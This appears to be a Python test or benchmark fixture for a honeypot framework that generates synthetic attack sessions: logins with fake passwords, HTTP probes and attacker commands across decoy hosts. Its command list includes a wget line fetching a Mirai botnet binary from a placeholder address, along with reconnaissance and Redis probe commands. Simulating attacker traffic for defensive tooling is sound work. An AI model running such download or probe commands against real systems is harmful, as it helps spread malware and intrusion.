"""Events as a fleet under attack makes them: several services, a few hundred visitors, mostly plain text."""

from collections.abc import Iterator
from itertools import islice

from decnet.events import (
    CommandIssued,
    CredentialOffered,
    Envelope,
    Fact,
    Place,
    RequestReceived,
    Secret,
    SessionEnded,
    SessionStarted,
    Visit,
)
from decnet.ground import uuid7s

PLACE = Place("default", "default", "bench", "bench")
START = 1_760_000_000_000_000
_SERVICES = ("ssh", "telnet", "http", "redis", "mysql", "smtp", "ftp")
_WORDS = ("root", "admin", "uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/bins/mirai.x86", "CONFIG GET dir")


def events(count: int) -> list[Envelope]:
    """``count`` events in the order in which they happened, the same each time but for their ids."""
    return list(islice(_all(), count))


def escaped(count: int) -> list[Envelope]:
    """``count`` commands whose text needs escapes."""
    found = []
    for index, event in enumerate(events(count)):
        line = b'\\x7fELF\\x02 "%d" ]\r\n\x00\xff\xfe echo -e "\\e[1m"' % index
        found.append(Envelope(id=event.id, at=event.at, place=PLACE, visit=event.visit, fact=CommandIssued(line=line)))
    return found


def _all() -> Iterator[Envelope]:
    at = START
    ids = uuid7s(lambda: at)
    number = 0
    while True:
        number += 1
        service = _SERVICES[number % len(_SERVICES)]
        peer = f"203.0.{number % 7}.{number % 251}"
        decky = number % 40
        visit = Visit(
            f"decky-{decky:02d}.8f3a", f"decky-{decky:02d}", service, next(ids), peer, 40000 + number % 20000, 22
        )
        for fact in _visit(number):
            at += 1_300
            yield Envelope(id=next(ids), at=at, place=PLACE, visit=visit, fact=fact)


def _visit(number: int) -> Iterator[Fact]:
    yield SessionStarted()
    yield CredentialOffered(b"root", Secret(b"hunter%d" % (number % 97)), accepted=number % 5 == 0)
    yield CommandIssued(_WORDS[number % len(_WORDS)].encode() + b" #%d" % (number % 1013), "read")
    if number % 3 == 0:
        agent = b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
        yield RequestReceived(b"GET", b"/cgi-bin/luci?id=%d" % number, b"HTTP/1.1", b"192.0.2.9", agent, b"[]")
    yield SessionEnded("visitor", 1_200_000 + number, 412, 2_048, facts=2)
